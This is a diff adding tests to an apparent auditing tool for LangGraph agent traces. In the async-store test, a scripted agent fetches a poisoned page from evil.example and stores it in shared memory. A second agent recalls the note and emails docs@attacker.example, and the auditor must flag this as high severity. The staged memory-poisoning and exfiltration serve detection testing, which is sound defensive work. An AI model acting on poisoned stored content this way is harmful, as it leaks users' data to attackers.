@@ -101,3 +101,49 @@ def test_av4_langgraph_benign_twin(lg) -> None:
     loud = [(f.code, f.severity) for f in result.findings
             if f.code.startswith("OTA1") and SEVERITY_RANK[f.severity] > SEVERITY_RANK["low"]]
     assert not loud
+
+
+def test_av4_langgraph_async_store(lg) -> None:  # noqa: F811
+    """``aput`` / ``aget`` in async tools of an ``ainvoke``d graph are captured the same way."""
+    import asyncio
+
+    from langchain_core.tools import StructuredTool
+
+    async def asave(text: str) -> str:
+        await get_store().aput(("notes", "traveller-1"), "lisbon", {"text": text})
+        return "saved"
+
+    async def arecall(query: str) -> str:
+        item = await get_store().aget(("notes", "traveller-1"), "lisbon")
+        return item.value["text"] if item else ""
+
+    save_tool = StructuredTool.from_function(coroutine=asave, name="save_note", description="Remember a note.")
+    recall_tool = StructuredTool.from_function(coroutine=arecall, name="recall_notes", description="Recall notes.")
+    orchtrace.mark_tool("fetch_page", trusted=False)
+    orchtrace.mark_tool("send_email", sensitive=True)
+    PAGES["https://evil.example/lisbon"] = POISONED
+    store = InMemoryStore()
+    researcher = create_react_agent(
+        ScriptedChatModel([ai("", ("fetch_page", {"url": "https://evil.example/lisbon"})),
+                           ai("", ("save_note", {"text": POISONED})), ai("noted")]),
+        [fetch_page, save_tool], name="researcher", store=store)
+    assistant = create_react_agent(
+        ScriptedChatModel([ai("", ("recall_notes", {"query": "get"})),
+                           ai("", ("send_email", {"to": "docs@attacker.example", "body": "x"})), ai("sent")]),
+        [recall_tool, send_email], name="assistant", store=store)
+
+    async def main() -> None:
+        await researcher.ainvoke({"messages": [("user", "Find tips for Lisbon")]}, {"configurable": {"thread_id": "a1"}})
+        await assistant.ainvoke({"messages": [("user", "Mail my plan")]}, {"configurable": {"thread_id": "a2"}})
+
+    asyncio.run(main())
+    t1, t2 = lg.trace_dicts()
+    [f] = [f for f in run_audit([t1, t2]).findings if f.code == "OTA104"]
+    assert f.details["written_in_trace"] == t1["trace_id"] and SEVERITY_RANK[f.severity] >= SEVERITY_RANK["high"]
+
+
+def test_memory_flags_are_checked_when_decorating() -> None:
+    with pytest.raises(ValueError):
+        orchtrace.tool(memory="append")(lambda key: None)
+    with pytest.raises(ValueError):
+        orchtrace.tool(executes_code=True, isolation="chroot")(lambda cmd: None)
